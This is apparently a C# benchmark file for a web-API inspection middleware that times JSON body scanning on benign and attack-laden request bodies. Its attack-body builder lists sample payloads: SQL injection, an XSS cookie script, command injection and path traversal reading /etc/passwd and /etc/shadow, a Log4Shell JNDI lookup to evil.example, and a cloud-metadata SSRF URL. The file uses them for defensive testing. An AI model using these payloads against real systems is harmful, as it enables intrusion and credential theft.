using System.Text;
using System.Text.Json;
using ApiGuard.Inspection;
using ApiGuard.Inspection.Body;
using ApiGuard.Inspection.Exclusions;
using BenchmarkDotNet.Attributes;

namespace ApiGuard.Benchmarks.Inspection.Body;

/// <summary>
/// The body-scanning path of the inspection middleware: <see cref="JsonBodyScanner"/> (Utf8JsonReader, JSON path tracking,
/// exclusion matching) feeding every property name and string value to the real <see cref="PayloadInspector"/>.
/// Scanner and scan are reused, as the middleware's per-request state would be from a pool.
/// </summary>
[MemoryDiagnoser]
public class BodyScanBenchmarks
{
    private readonly PayloadInspector _inspector = new();
    private byte[] _benign4K = [];
    private byte[] _benign64K = [];
    private byte[] _attack4K = [];
    private JsonBodyScanner _scanner = null!;
    private InspectionScan _enforce = null!;
    private InspectionScan _detect = null!;
    private InspectionScan _withExclusions = null!;
    private InspectionScan _scanOnly = null!;

    [GlobalSetup]
    public void Setup()
    {
        _benign4K = BuildBenign(4 * 1024);
        _benign64K = BuildBenign(64 * 1024);
        _attack4K = BuildAttack(4 * 1024);
        _scanner = new JsonBodyScanner(64);
        _enforce = new InspectionScan(_inspector, InspectionExclusionPolicy.Empty, 1, 5, 16, ApiGuardMode.Enforce);
        _detect = new InspectionScan(_inspector, InspectionExclusionPolicy.Empty, 1, 5, 16, ApiGuardMode.DetectOnly);
        var policy = new InspectionExclusionPolicy(
        [
            CompiledExclusion.Compile(new InspectionExclusion { Field = "json:$.orders[*].note" }),
            CompiledExclusion.Compile(new InspectionExclusion { Field = "json:$.orders[*].customer.email", Categories = [InspectionCategory.Sqli] }),
        ]);
        _withExclusions = new InspectionScan(_inspector, policy, 1, 5, 16, ApiGuardMode.Enforce);
        _scanOnly = new InspectionScan(new NullInspector(), InspectionExclusionPolicy.Empty, 1, 5, 16, ApiGuardMode.Enforce);
        foreach (var body in new[] { _benign4K, _benign64K, _attack4K })
        {
            _detect.Reset();
            _scanner.Reset();
            var status = _scanner.Scan(body, isFinal: true, _detect);
            if (status != BodyScanStatus.Ok || _scanner.Consumed != body.Length)
            {
                throw new InvalidOperationException($"Benchmark body of {body.Length} bytes did not scan: {status} at {_scanner.Consumed}: {Encoding.UTF8.GetString(body.AsSpan(Math.Max(0, _scanner.Consumed - 40), Math.Min(80, body.Length - _scanner.Consumed + 40)))}");
            }
        }

        if (Run(_benign64K, _enforce) != 0 || Run(_attack4K, _detect) < 5)
        {
            throw new InvalidOperationException("Benchmark bodies are not what they claim to be (benign scored, or the attack body did not).");
        }
    }

    [GlobalCleanup]
    public void Cleanup() => _scanner.Dispose();

    [Benchmark(Baseline = true)]
    public int Json_Benign_4KB() => Run(_benign4K, _enforce);

    [Benchmark]
    public int Json_Benign_64KB() => Run(_benign64K, _enforce);

    [Benchmark]
    public int Json_Benign_64KB_WithPathExclusions() => Run(_benign64K, _withExclusions);

    /// <summary>The middleware's own share: JSON reading, path tracking, UTF-8 validation, with an inspector that does nothing.</summary>
    [Benchmark]
    public int Json_Benign_64KB_ScanPathOnly() => Run(_benign64K, _scanOnly);

    /// <summary>
    /// The floor under every body row: <see cref="Utf8JsonReader"/> alone reading every token of the 64 KB body and doing
    /// nothing with it (no path, no UTF-8 check, no inspection). No scanner built on the reader can be faster than this.
    /// </summary>
    [Benchmark]
    public int Json_Benign_64KB_Utf8JsonReaderOnly()
    {
        var reader = new Utf8JsonReader(_benign64K);
        var strings = 0;
        while (reader.Read())
        {
            if (reader.TokenType is JsonTokenType.String or JsonTokenType.PropertyName)
            {
                strings++;
            }
        }

        return strings;
    }

    /// <summary>Enforce: scanning stops at the first finding that reaches the threshold.</summary>
    [Benchmark]
    public int Json_AttackLaden_4KB_Enforce() => Run(_attack4K, _enforce);

    /// <summary>DetectOnly: every value is scanned and every finding explained (excerpt and location strings are allocated).</summary>
    [Benchmark]
    public int Json_AttackLaden_4KB_DetectOnly() => Run(_attack4K, _detect);

    private int Run(byte[] body, InspectionScan scan)
    {
        scan.Reset();
        _scanner.Reset();
        _scanner.Scan(body, isFinal: true, scan);
        return scan.Score;
    }

    private static readonly string[] s_names = ["Seán O'Brien", "Zoë Martin", "李小龍", "Ana-María López", "D'Angelo Smith", "Jürgen Groß"];
    private static readonly string[] s_notes =
    [
        "Please leave the parcel at the back door (code 4521#).",
        "Gift wrap, and add a note: \"Happy 30th!\"",
        "Deliver between 9am & 5pm; call +1 (555) 010-2233 first.",
        "Select the blue one if available, otherwise drop the order.",
        "Re-order of #A-1193 - same as last time :)",
        "Use the side entrance; 2nd floor, apt. 4B.",
    ];

    private static byte[] BuildBenign(int size)
    {
        var sb = new StringBuilder("{\"requestId\":\"6f1c2e0a-3b1d-4c55-9a77-2f0e8d7b9c11\",\"page\":1,\"orders\":[");
        for (var i = 0; sb.Length < size - 400; i++)
        {
            if (i > 0)
            {
                sb.Append(',');
            }

            sb.Append("{\"id\":").Append(1000 + i)
                .Append(",\"sku\":\"SKU-").Append(i % 97).Append("-XL\"")
                .Append(",\"customer\":{\"name\":\"").Append(s_names[i % s_names.Length]).Append("\",\"email\":\"user").Append(i).Append("@example.com\"}")
                .Append(",\"price\":").Append(19.99 + i).Append(",\"paid\":").Append(i % 2 == 0 ? "true" : "false")
                .Append(",\"note\":\"").Append(s_notes[i % s_notes.Length].Replace("\"", "\\\"", StringComparison.Ordinal)).Append("\"}");
        }

        sb.Append("],\"total\":42}");
        while (sb.Length < size)
        {
            sb.Insert(sb.Length - 1, ' ');
        }

        return Encoding.UTF8.GetBytes(sb.ToString());
    }

    private static byte[] BuildAttack(int size)
    {
        string[] attacks =
        [
            "1' OR '1'='1",
            "<script>alert(document.cookie)</script>",
            "; cat /etc/passwd",
            "../../../../etc/shadow",
            "${jndi:ldap://evil.example/a}",
            "http://169.254.169.254/latest/meta-data/",
        ];
        var sb = new StringBuilder("{\"orders\":[");
        for (var i = 0; sb.Length < size - 200; i++)
        {
            if (i > 0)
            {
                sb.Append(',');
            }

            var attack = attacks[i % attacks.Length].Replace("\"", "\\\"", StringComparison.Ordinal);
            sb.Append("{\"id\":").Append(i).Append(",\"name\":\"").Append(s_names[i % s_names.Length])
                .Append("\",\"note\":\"").Append(attack).Append("\",\"comment\":\"").Append(s_notes[i % s_notes.Length].Replace("\"", "\\\"", StringComparison.Ordinal)).Append("\"}");
        }

        sb.Append("]}");
        return Encoding.UTF8.GetBytes(sb.ToString());
    }

    private sealed class NullInspector : IPayloadInspector
    {
        public InspectionVerdict Inspect(ReadOnlySpan<byte> utf8, in InspectionSettings settings, Span<InspectionFinding> findings) => default;

        public InspectionVerdict Inspect(ReadOnlySpan<char> value, in InspectionSettings settings, Span<InspectionFinding> findings) => default;
    }
}
